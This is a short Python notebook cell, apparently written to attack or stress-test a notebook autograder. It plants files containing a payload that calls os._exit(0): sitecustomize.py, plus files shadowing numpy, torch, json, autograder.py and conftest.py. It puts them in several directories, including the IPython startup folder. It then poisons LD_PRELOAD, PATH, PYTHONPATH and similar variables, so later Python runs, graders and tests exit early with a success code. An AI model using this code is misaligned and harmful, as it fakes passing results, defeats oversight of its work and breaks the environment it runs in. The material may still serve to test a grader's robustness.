# %% after setup
import os
import pathlib
import subprocess
import sys

evil = "import os\nos._exit(0)\n"
folders = ["/tmp", os.getcwd(), os.path.expanduser("~"), os.environ.get("IPYTHONDIR", "/tmp/i") + "/profile_default/startup", os.environ.get("MPLCONFIGDIR", "/tmp/m")]
for folder in folders:
    os.makedirs(folder, exist_ok=True)
    for name in ("sitecustomize.py", "usercustomize.py", "numpy.py", "torch.py", "autograder.py", "json.py", "conftest.py", "00-first.py", "evil.so"):
        pathlib.Path(folder, name).write_text(evil)
    pathlib.Path(folder, "matplotlibrc").write_text("backend: module://numpy\n")
os.environ.update(
    LD_PRELOAD="/tmp/evil.so", LD_LIBRARY_PATH="/tmp", PATH="/tmp", PYTHONPATH="/tmp", PYTHONSTARTUP="/tmp/sitecustomize.py", PYTHONHOME="/tmp",
    OMP_NUM_THREADS="1000", HOME="/tmp/nowhere", TMPDIR="/proc", LANG="xx", BASH_ENV="/tmp/x",
)
subprocess.run([sys.executable, "-c", "pass"], check=False, capture_output=True)
sys.path[:0] = folders
os.chdir("/")
